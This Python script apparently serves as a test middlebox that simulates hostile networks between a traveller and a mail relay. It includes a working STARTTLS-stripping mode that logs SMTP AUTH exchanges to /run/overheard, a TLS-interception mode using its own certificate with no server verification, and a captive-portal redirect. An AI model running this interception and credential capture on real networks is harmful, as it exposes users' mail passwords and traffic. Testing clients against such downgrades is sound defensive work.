#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""What networks put between a traveller and the relay, on a router that redirects connections here.

    middlebox strip        carries everything on, takes STARTTLS out of what the relay offers, and keeps every sign-in
                           that it sees in the clear in /run/overheard
    middlebox own FILE     ends TLS with a certificate of its own (FILE: certificate and key), and carries on in TLS
    middlebox portal       answers every browser with the way to a login page, and nobody else

Listens on port 9000 in both families.
"""

import asyncio
import socket
import ssl
import struct
import sys
from contextlib import suppress
from pathlib import Path

_OVERHEARD = Path("/run/overheard")
_ORIGINAL = 80  # SO_ORIGINAL_DST and IP6T_SO_ORIGINAL_DST
_LOGIN = b"HTTP/1.1 302 Found\r\nLocation: http://login.hotel.test/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"


def destination(connection: socket.socket) -> tuple[str, int]:
    """Where the client meant to go, before it was redirected."""
    address = connection.getpeername()[0]
    if address.startswith("::ffff:"):
        raw = connection.getsockopt(socket.SOL_IP, _ORIGINAL, 16)
        port, packed = struct.unpack("!2xH4s8x", raw)
        return socket.inet_ntoa(packed), port
    raw = connection.getsockopt(socket.IPPROTO_IPV6, _ORIGINAL, 28)
    port, packed = struct.unpack("!2xH4x16s4x", raw)
    return socket.inet_ntop(socket.AF_INET6, packed), port


def overheard(data: bytes) -> None:
    """Keep it."""
    with _OVERHEARD.open("ab") as file:
        file.write(data)


async def carry(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, strip: bool = False, listen: bool = False
) -> None:
    """Pass on what comes until it ends."""
    with suppress(OSError, ssl.SSLError):
        while data := await reader.read(65536):
            if listen and b"AUTH " in data.upper():
                overheard(data)
            if strip:
                data = data.replace(b"250-STARTTLS\r\n", b"").replace(b"250 STARTTLS\r\n", b"250 HELP\r\n")
            writer.write(data)
            await writer.drain()
    with suppress(OSError, RuntimeError):
        writer.close()


async def serve(mode: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One client."""
    if mode == "portal":
        with suppress(OSError, TimeoutError):
            line = await asyncio.wait_for(reader.readline(), 10)
            if line.split(b" ")[0] in (b"GET", b"HEAD", b"POST"):
                writer.write(_LOGIN)
        writer.close()
        return
    host, port = destination(writer.get_extra_info("socket"))
    context = None
    if mode == "own":
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    try:
        onward_reader, onward_writer = await asyncio.open_connection(host, port, ssl=context)
    except OSError:
        writer.close()
        return
    strip = mode == "strip"
    await asyncio.gather(carry(reader, onward_writer, listen=strip), carry(onward_reader, writer, strip=strip))


async def main() -> None:
    """Serve for ever."""
    mode = sys.argv[1]
    context = None
    if mode == "own":
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(sys.argv[2])
    listener = socket.create_server(("::", 9000), family=socket.AF_INET6, dualstack_ipv6=True)
    server = await asyncio.start_server(lambda reader, writer: serve(mode, reader, writer), sock=listener, ssl=context)
    await server.serve_forever()


asyncio.run(main())
